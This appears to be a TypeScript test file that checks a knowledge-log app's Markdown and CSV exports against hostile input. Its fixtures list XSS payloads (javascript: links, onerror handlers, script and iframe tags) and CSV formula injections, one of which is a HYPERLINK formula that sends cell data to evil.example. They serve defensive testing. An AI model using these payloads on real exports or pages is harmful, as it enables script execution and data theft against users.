/**
 * The Markdown export shows a buddy's words as words. The file is rendered with marked (GFM, raw
 * HTML passed through: the most permissive common renderer) and the result is read with linkedom:
 * no element the text did not ask for as text, no link but http(s) or mailto, and the very
 * characters that were typed.
 */
import { parseHTML } from 'linkedom';
import { marked } from 'marked';
import { describe, expect, it } from 'vitest';
import type { BinomeDb } from '@/lib/db/db';
import { exportCsv, exportMarkdown, type PeopleLabels } from '@/lib/knowledge/export';
import { markdownInline, markdownLines, markdownLink } from '@/lib/knowledge/markdown-text';
import { refreshThread } from '@/lib/conversation/threads';
import { freshDb, testPair } from '../helpers/db';
import { addEntry } from '../helpers/log-data';

const labels: PeopleLabels = {
  title: 'My knowledge log',
  asked: 'Asked',
  answered: 'Answered',
  tool: 'Tool',
  skill: 'Skill',
  buddy: 'Buddy',
  page: 'Page',
  note: 'Note',
  me: 'Me',
  picture: 'A picture of the screen, with these numbers:',
  columns: ['asked', 'answered', 'tool', 'skill', 'buddy', 'question', 'answer', 'status', 'url', 'note'],
};

/** Each line is something a hostile buddy could send as an answer. */
const HOSTILE_LINES = [
  '[Click here to fix it](javascript:alert(1))',
  '![tracking pixel](https://tracker.example/p.gif)',
  '<img src=x onerror=alert(2)>',
  '<script>alert(3)</script>',
  '<javascript:alert(4)>',
  '\\[escaped?](javascript:alert(5))',
  '[reference]: javascript:alert(6)',
  'See [the reference][reference]',
  '&lt;b&gt;entities stay text&lt;/b&gt;',
  '`code <b>span</b>`',
  '# Not a heading',
  '> not a quote',
  '- not a list',
  '1. not a numbered list',
  '    not code',
  '<!-- hidden comment -->',
  '**not bold** _not italic_ ~~not struck~~ | not | a table |',
];

function render(markdown: string): Document {
  return parseHTML(`<!doctype html><html><body>${marked.parse(markdown, { async: false })}</body></html>`).document;
}

function expectOnlySafeMarkup(document: Document): void {
  expect(
    document.querySelectorAll('img, script, iframe, object, embed, svg, style, code, pre, h3, h4, ol, table, del, strong em'),
  ).toHaveLength(0);
  for (const element of document.querySelectorAll('*')) {
    for (const attribute of element.getAttributeNames()) expect(attribute, element.outerHTML).not.toMatch(/^on/);
  }
  for (const link of document.querySelectorAll('a')) expect(link.getAttribute('href')).toMatch(/^(https?:|mailto:)/);
}

async function hostileLog(): Promise<BinomeDb> {
  const db = freshDb();
  await db.pairs.add(testPair({ peerName: 'Léa](javascript:alert(7)) <b onmouseover=alert(8)>\n# Fake heading' }));
  const threadId = await addEntry(db, { question: 'Placeholder', answer: HOSTILE_LINES.join('\n'), at: 1000 });
  await db.messages.update(threadId, {
    text: '<script>alert(9)</script> [question](javascript:alert(10))',
    context: {
      url: 'javascript:alert(11)',
      title: 'Pay](javascript:alert(12)) now',
      tool: 'x',
      toolName: '<img src=y onerror=alert(13)>',
      selection: '',
    },
  } as never);
  await db.transaction('rw', db.threads, db.messages, () => refreshThread(db, threadId));
  await db.notes.put({
    threadId,
    text: 'My note\n<iframe src="https://evil.example"></iframe>\n[x](data:text/html,boo)',
    updatedAt: 2,
  });
  return db;
}

describe('Markdown export of hostile text', () => {
  it('renders no HTML, image, code, heading, list or link the text did not write as text', async () => {
    const document = render(await exportMarkdown(await hostileLog(), labels));
    expectOnlySafeMarkup(document);
    // Our own structure is still there: one title, one entry heading, one list of details, one quote.
    expect(document.querySelectorAll('h1')).toHaveLength(1);
    expect(document.querySelectorAll('h2')).toHaveLength(1);
    expect(document.querySelectorAll('blockquote')).toHaveLength(1);
    // The only links are the plain web addresses that the text holds, as the app itself links them.
    expect([...document.querySelectorAll('a')].map((link) => link.getAttribute('href'))).toEqual([
      'https://tracker.example/p.gif',
      'https://evil.example/',
    ]);
  });

  it('shows every hostile answer line, the question, names and the page exactly as typed', async () => {
    const document = render(await exportMarkdown(await hostileLog(), labels));
    const quoted = document.querySelector('blockquote')!.textContent!;
    for (const line of HOSTILE_LINES) expect(quoted).toContain(line.trim());
    expect(document.querySelector('h2')!.textContent).toBe('<script>alert(9)</script> [question](javascript:alert(10))');
    const details = document.querySelector('ul')!.textContent!;
    expect(details).toContain('Tool: <img src=y onerror=alert(13)>');
    expect(details).toContain('Page: Pay](javascript:alert(12)) now (javascript:alert(11))');
    expect(details).toContain('Buddy: Léa](javascript:alert(7)) <b onmouseover=alert(8)> # Fake heading');
    expect(document.body.textContent).toContain('<iframe src="https://evil.example"></iframe>');
  });

  it('links a page only when its address is http(s), percent-encoding what could end the link', () => {
    expect(markdownLink('Report (final)', 'https://example.com/a (b)/c?q=<x>')).toBe(
      '[Report (final)](https://example.com/a%20%28b%29/c?q=%3Cx%3E)',
    );
    expect(markdownLink('', 'https://example.com/')).toBe('[https://example.com/](https://example.com/)');
    expect(markdownLink('Mail me', 'mailto:lea@example.com')).toBe('[Mail me](mailto:lea@example.com)');
    for (const address of [
      'javascript:alert(1)',
      'JavaScript:alert(1)',
      ' javascript:alert(1)',
      'data:text/html,<b>x</b>',
      'vbscript:x',
      'file:///etc/passwd',
      'not a url',
    ]) {
      const markdown = markdownLink('Page', address);
      expect(markdown).not.toMatch(/\]\(/);
      expectOnlySafeMarkup(render(markdown));
    }
  });

  it('escapes only what could be syntax, so the file stays readable', () => {
    expect(markdownInline('Tableau croisé ? Insertion > TCD, 2 + 2 = 4, "Team"')).toBe(
      'Tableau croisé ? Insertion > TCD, 2 + 2 = 4, "Team"',
    );
    expect(markdownInline('a\\b [c] <d> & e*f_g`h')).toBe('a\\\\b \\[c\\] &lt;d> &amp; e\\*f\\_g\\`h');
    expect(markdownLines('line one\n- two\n3) three')).toEqual(['line one', '\\- two', '3\\) three']);
  });
});

describe('CSV export of hostile text', () => {
  it('defuses every cell a spreadsheet could run as a formula', async () => {
    const db = freshDb();
    await db.pairs.add(testPair({ peerName: '@SUM(1+1)*cmd' }));
    const formulas = [
      '=HYPERLINK("https://evil.example?d="&A1,"Click")',
      '+1+1',
      '-1+1',
      '@SUM(A1)',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
      '  =1+1',
      '\uFF1D1+1',
    ];
    for (const [index, formula] of formulas.entries())
      await addEntry(db, { question: formula, answer: `fine ${index}`, at: 1000 + index * 10_000 });
    const csv = await exportCsv(db, labels);
    for (const formula of formulas) expect(csv).toContain(`"'${formula.replace(/"/g, '""')}"`);
    expect(csv).toContain(`"'@SUM(1+1)*cmd"`);
    expect(csv).toContain('"fine 0"');
  });
});
